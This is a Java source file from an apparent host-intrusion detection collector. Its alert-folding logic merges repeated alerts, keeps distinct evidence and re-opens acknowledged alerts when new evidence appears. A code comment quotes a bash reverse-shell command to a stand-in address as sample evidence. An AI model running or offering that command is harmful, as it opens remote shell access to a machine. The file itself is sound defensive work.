package dev.tripline.collector.detect;

import dev.tripline.collector.alert.Dispositions;
import dev.tripline.model.Alert;
import dev.tripline.model.AlertReason;
import dev.tripline.model.AlertState;
import dev.tripline.model.EventKind;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;
import java.util.regex.Pattern;

/**
 * Repeats of one alert fold into its count instead of being re-sent: a known alert is published
 * again only when its count crosses 10, 100, 1000…, so a SIEM sees that it goes on without a flood.
 * Folding never hides evidence: each distinct piece (a command line, a path) is kept on the alert
 * ({@link #MAX_SAMPLES}, then counted), and a repeat with evidence the alert has not shown yet
 * re-opens an acknowledged alert and publishes it again: an analyst who acknowledged a benign
 * health-check shell is told about the reverse shell that folded into it.
 */
public final class AlertFolding {
  /** Distinct evidence kept on one alert. */
  public static final int MAX_SAMPLES = 8;

  /** Characters of one piece of evidence kept (a command line is cut there, marked with …). */
  public static final int MAX_SAMPLE_CHARS = 512;

  private static final Pattern UUID =
      Pattern.compile(
          "[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12}");
  private static final Pattern HEX =
      Pattern.compile("(?<![0-9A-Za-z])[0-9a-fA-F]{12,}+(?![0-9A-Za-z])");
  private static final Pattern DIGITS = Pattern.compile("\\d++");
  private static final Pattern SPACE = Pattern.compile("\\s++");

  private AlertFolding() {}

  /** What to store, whether to publish it, and whether it is a new alert. */
  public record Folded(Alert stored, boolean publish, boolean fresh) {}

  /**
   * Folds {@code fresh} into {@code existing} (null when the alert is new), keeping at most {@code
   * maxInstances} instances.
   */
  public static Folded fold(Alert existing, Alert fresh, int maxInstances) {
    if (existing == null) {
      return new Folded(fresh, true, true);
    }
    long before = existing.getCount();
    long after = before + fresh.getCount();
    Alert.Builder b = existing.toBuilder().setCount(after).setLastSeenMs(fresh.getLastSeenMs());
    for (String instance : fresh.getInstancesList()) {
      if (b.getInstancesCount() < maxInstances && !b.getInstancesList().contains(instance))
        b.addInstances(instance);
    }
    boolean newEvidence = false;
    if (existing.getReason() == AlertReason.PROFILE_OVERFLOW) {
      newEvidence = mergeBySuspicion(b, fresh);
    } else {
      for (String sample : fresh.getSamplesList()) {
        newEvidence |= addSample(b, sample);
      }
    }
    // Protect mode: a call refused (or that block would have refused) is never hidden in a count:
    // the alert takes the new disposition, with that event, and is published again.
    boolean newDisposition =
        Dispositions.shown(fresh.getDisposition())
            && fresh.getDisposition() != existing.getDisposition();
    if (newDisposition) {
      b.setDisposition(fresh.getDisposition()).setEvent(fresh.getEvent());
    }
    boolean reopen =
        (newEvidence || newDisposition) && existing.getState() == AlertState.ACKNOWLEDGED;
    if (reopen) {
      // Acknowledged was a verdict on the evidence the analyst saw, not on what came after it.
      b.setState(AlertState.OPEN).setReopened(existing.getReopened() + 1);
    }
    return new Folded(
        b.build(), reopen || newDisposition || crossesPowerOfTen(before, after), false);
  }

  /**
   * Adds one piece of evidence unless an equal one (after {@link #evidenceKey}) is kept; true when
   * it was new. Past {@link #MAX_SAMPLES} the oldest but the first is dropped (counted in {@code
   * samples_dropped}).
   */
  static boolean addSample(Alert.Builder b, String sample) {
    String key = evidenceKey(sample);
    for (String kept : b.getSamplesList()) {
      if (evidenceKey(kept).equals(key)) return false;
    }
    if (b.getSamplesCount() >= MAX_SAMPLES) {
      // Full: the first (what the alert was raised for) stays, the oldest of the others makes
      // room, so the latest new evidence is on the alert (and recognised when it comes again).
      List<String> kept = new ArrayList<>(b.getSamplesList());
      kept.remove(1);
      b.clearSamples().addAllSamples(kept).setSamplesDropped(b.getSamplesDropped() + 1);
    }
    b.addSamples(sample);
    return true;
  }

  /**
   * An overflow's samples are the targets it swallowed: the most suspicious {@link #MAX_SAMPLES} of
   * old and new are kept. True when a new one of some suspicion made it in (worth re-opening for;
   * another photo is not).
   */
  private static boolean mergeBySuspicion(Alert.Builder b, Alert fresh) {
    List<String> all = new ArrayList<>(b.getSamplesList());
    List<String> added = new ArrayList<>();
    for (String s : fresh.getSamplesList()) {
      if (!all.contains(s)) {
        all.add(s);
        added.add(s);
      }
    }
    if (added.isEmpty()) return false;
    EventKind kind = fresh.getEvent().getKind();
    // stable: among equals, the first seen stays first
    all.sort(Comparator.comparingInt((String s) -> -Suspicion.score(kind, s)));
    List<String> kept = all.subList(0, Math.min(all.size(), MAX_SAMPLES));
    boolean notable = false;
    for (String s : added) {
      notable |= kept.contains(s) && Suspicion.score(kind, s) > 0;
    }
    b.clearSamples()
        .addAllSamples(kept)
        .setSamplesDropped(b.getSamplesDropped() + all.size() - kept.size());
    return notable;
  }

  /** A piece of evidence as kept on an alert: at most {@link #MAX_SAMPLE_CHARS} characters. */
  public static String sample(String evidence) {
    return evidence.length() <= MAX_SAMPLE_CHARS
        ? evidence
        : evidence.substring(0, MAX_SAMPLE_CHARS - 1) + "…";
  }

  /**
   * What makes two pieces of evidence the same for an analyst: uuids, long hex runs and numbers
   * folded (pids, ports, timestamps, request ids), whitespace collapsed, the words kept — {@code sh
   * -c "sleep 5; curl -s http://h/health"} and {@code sh -c "bash -i >& /dev/tcp/203.0.113.9/4444
   * 0>&1"} stay apart. Bounded by {@link #MAX_SAMPLE_CHARS}.
   */
  public static String evidenceKey(String evidence) {
    String s = sample(evidence);
    s = UUID.matcher(s).replaceAll("*");
    s = HEX.matcher(s).replaceAll("*");
    s = DIGITS.matcher(s).replaceAll("#");
    return SPACE.matcher(s).replaceAll(" ").trim();
  }

  static boolean crossesPowerOfTen(long before, long after) {
    for (long t = 10; t > 0 && t <= after; t *= 10) {
      if (before < t) return true;
    }
    return false;
  }
}
